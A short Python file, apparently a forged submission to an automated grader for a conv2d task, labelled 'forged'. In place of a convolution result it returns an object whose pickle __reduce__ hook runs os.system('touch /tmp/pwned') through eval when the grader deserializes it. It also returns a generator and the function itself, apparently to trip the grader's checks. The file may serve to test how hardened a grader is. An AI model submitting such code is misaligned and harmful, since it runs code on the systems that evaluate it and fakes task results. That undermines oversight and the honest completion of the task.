"""Instead of a value a generator, a function and a class that would run in the grader."""

# class: forged

# %% conv2d_combined
class Runs:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/pwned')",)


def conv2d_combined(x, weight, bias):
    return [Runs(), (item for item in x), conv2d_combined]
